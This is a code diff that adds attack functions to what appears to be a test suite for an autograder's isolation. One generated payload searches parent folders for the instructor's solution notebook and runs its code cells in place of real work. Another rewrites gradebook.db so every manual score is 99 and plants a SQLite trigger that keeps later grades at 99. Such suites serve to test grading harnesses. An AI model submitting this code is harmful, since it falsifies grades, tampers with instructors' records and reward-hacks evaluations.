@@ -3,8 +3,8 @@
 import os
 
 from aims import SECRET, TOKEN, VARIABLE, course, ear
-from handed_in import trying
-from registry import REFUSED, attack
+from handed_in import instead, stub, trying
+from registry import IDLE, REFUSED, attack
 
 from autograder.assignment import Assignment
 from autograder.course import REPOSITORY
@@ -50,6 +50,41 @@ def read_class(assignment: Assignment) -> bytes:
             for name in names:
                 if name in ("gradebook.db", "nbgrader_config.py") or "day10_step_decay" in name:
                     attempt("found", lambda: os.path.join(folder, name))
+        """,
+    )
+
+
+@attack("reading from disk", earns=IDLE)
+def run_the_solutions(assignment: Assignment) -> bytes:
+    """The instructor's notebook is found above the working folder, and its cells are run."""
+    source = f"""
+import glob, json, os
+for path in glob.glob("/".join([".."] * 4) + "/**/{assignment.stem}.ipynb", recursive=True):
+    text = open(path).read()
+    if "BEGIN SOLUTION" in text:
+        for cell in json.loads(text)["cells"]:
+            if cell["cell_type"] == "code" and "autograder_check" not in "".join(cell["source"]):
+                try:
+                    exec("".join(cell["source"]), globals())
+                except Exception:
+                    pass"""
+    return instead(assignment, source, "{task} = globals().get('{task}')")
+
+
+@attack("writing to disk")
+def write_the_gradebook(assignment: Assignment) -> bytes:
+    """The gradebook is found above the working folder; a trigger in it gives full points from now on."""
+    return stub(
+        assignment,
+        """
+        import glob, sqlite3
+        for path in glob.glob("/".join([".."] * 4) + "/**/gradebook.db", recursive=True):
+            with sqlite3.connect(path, timeout=5) as held:
+                held.execute("UPDATE grade SET manual_score = 99")
+                held.execute(
+                    "CREATE TRIGGER IF NOT EXISTS mine AFTER UPDATE ON grade WHEN NEW.manual_score IS NULL "
+                    "BEGIN UPDATE grade SET manual_score = 99 WHERE id = NEW.id; END"
+                )
         """,
     )
 
